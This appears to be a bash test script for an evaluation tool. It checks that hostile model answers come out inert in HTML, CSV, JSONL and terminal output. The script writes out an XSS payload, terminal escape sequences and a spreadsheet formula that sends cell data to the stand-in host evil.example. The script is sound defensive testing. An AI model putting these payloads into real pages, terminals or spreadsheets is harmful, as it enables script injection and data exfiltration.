#!/usr/bin/env bash
# Hostile model output end to end: answers holding HTML and script, terminal escape sequences,
# NUL bytes, invalid UTF-8 and spreadsheet formulas come from a real `candor run` against the
# loopback server, are judged, and leave as inert text: the HTML report in headless Chromium
# runs nothing and creates no element, the terminal gets no escape sequence, CSV cells that
# start like a formula are neutralised, and nothing is lost on the way.
#
#   hostile_output_test.sh CANDOR CANDOR_FAULT_SERVER NODE BROWSER_TEST_CJS
candor=$1
fault_server=$2
node=$3
browser_test=$(realpath "$4")
source "$(dirname "$0")/../support/harness.sh"

hex() { printf -- "$1" | od -An -v -tx1 | tr -d ' \n'; }
# Each probe asks the server to answer with exactly these bytes.
html='<script>window.__pwned=1;document.title=\x27pwned\x27</script></textarea><img src=x onerror="window.__pwned=2">'
term='\x1b]0;pwned-title\x07\x1b[31mRED\x1b[0m \x1b[2J cleared \xc2\x9b31m c1 \x1bP+q\x1b\\ done'
nul='before\x00after\x00end'
bad_utf8='caf\xe9 \xff\xfe \xc3( ok'
formula='=HYPERLINK("http://evil.example/?d="&A1,"click")'
payloads=("$html" "$term" "$nul" "$bad_utf8" "$formula" '@SUM(1+1)' '+1+1' '-2+3' 'plain answer')
for i in "${!payloads[@]}"; do
  neutral_probe "h$i" "Question $i [[answer hex=$(hex "${payloads[$i]}")]]"
done > suite.jsonl
start_fault_server --name hostile
"$candor" run --db hostile.db --run h --suite suite.jsonl --no-bundled \
  --target "openai:http://127.0.0.1:$FS_PORT/v1#m?retries=0" 2> run.err || fail "the run failed: $(cat run.err)"
stop_fault_server "$FS_PID"
integrity_ok hostile.db

# Stored as sent, NUL bytes and escapes included (the database keeps the evidence); invalid
# UTF-8 is replaced by U+FFFD, one per bad sequence, and nothing else changes.
stored() { sqlite3 hostile.db "SELECT lower(hex(answer)) FROM answers WHERE probe_id = 'none-h$1.en'"; }
for i in 0 1 2 4 5 6 7 8; do
  [[ $(stored "$i") == "$(hex "${payloads[$i]}")" ]] || fail "answer $i was not stored as sent: $(stored "$i")"
done
[[ $(stored 3) == "$(hex 'caf\xef\xbf\xbd \xef\xbf\xbd\xef\xbf\xbd \xef\xbf\xbd( ok')" ]] ||
  fail "invalid UTF-8 was not replaced byte by byte: $(stored 3)"
"$candor" judge --db hostile.db --run h --suite suite.jsonl --no-bundled > /dev/null || fail "judge failed"
[[ $(sqlite3 hostile.db "SELECT count(*) FROM verdicts") == ${#payloads[@]} ]] || fail "not every answer was judged"

for fmt in html md csv json; do
  "$candor" report --db hostile.db --run h --suite suite.jsonl --no-bundled -o "report.$fmt" 2> "report_$fmt.err" ||
    fail "report --format $fmt failed: $(cat "report_$fmt.err")"
  ! grep -qaP '\x00' "report.$fmt" || fail "report.$fmt holds a NUL byte"
  iconv -f UTF-8 -t UTF-8 "report.$fmt" > /dev/null 2>&1 || fail "report.$fmt is not valid UTF-8"
done
"$candor" runs export h --db hostile.db --format csv -o export.csv
"$candor" runs export h --db hostile.db --format jsonl -o export.jsonl
! grep -qaP '\x00' export.csv || fail "export.csv holds a NUL byte"

# HTML: the only <script> elements are candor's own, no model text became markup, and in
# Chromium nothing ran (window.__pwned unset, title unchanged), no element was created, no
# console error, no network request.
! grep -qF '<script>window.__pwned' report.html || fail "the planted script is raw in report.html"
! grep -qF '<img src=x' report.html || fail "the planted <img> is raw in report.html"
"$node" "$browser_test" "$work/report.html" --only-planted > browser.txt 2>&1 ||
  fail "headless Chromium: $(cat browser.txt)"
grep -q "^ok   the planted <script> answer is shown as text" browser.txt || fail "the browser check did not run: $(cat browser.txt)"

# CSV: every text cell that starts like a formula is neutralised, in the report and the export;
# the neutralised cells keep their text after the apostrophe.
for f in report.csv export.csv; do
  ! grep -qaE '(^|,)"?[-=+@]' "$f" || fail "$f has a cell that starts like a formula: $(grep -aE '(^|,)"?[-=+@]' "$f")"
  grep -qaF ",\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"click\"\")\"," "$f" || fail "$f: the formula answer is not kept as text"
  for cell in "'@SUM(1+1)" "'+1+1" "'-2+3"; do
    grep -qaF ",$cell," "$f" || fail "$f: no cell $cell"
  done
done
# JSONL keeps every answer exactly (JSON escapes the control characters).
[[ $(jq -r 'select(.probe_id == "none-h2.en") | .answer' export.jsonl | od -An -tx1 | tr -d ' \n') == "$(hex "$nul")0a" ]] ||
  fail "the JSONL export changed the NUL answer"

# A terminal gets no escape sequence, bell or NUL: exports to a pseudo-terminal, and the other
# commands that print to one.
has_controls() { LC_ALL=C grep -qaP '[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]|\xc2[\x80-\x9f]' "$1"; }
for cmd in "runs export h --format csv" "runs export h --format jsonl" "runs show h" "runs list"; do
  script -qfec "$candor $cmd --db hostile.db" /dev/null > tty.txt 2>&1 || true
  # script turns the terminal's line ends into CR LF; nothing else may be a control character.
  tr -d '\r' < tty.txt > tty_clean.txt
  ! has_controls tty_clean.txt || fail "'candor $cmd' printed control characters to a terminal: $(od -c tty_clean.txt | head)"
done
script -qfec "$candor runs export h --db hostile.db --format csv" /dev/null > tty.txt
grep -qaF 'RED' tty.txt && grep -qaF 'cleared' tty.txt || fail "the terminal export lost the text around the escapes"
# A pipe gets the bytes as stored.
"$candor" runs export h --db hostile.db --format csv | grep -qaF $'\x1b[31mRED' || fail "a piped export changed the answer"
echo "ok: hostile answers stored as sent, inert in every report, the terminal and spreadsheets"
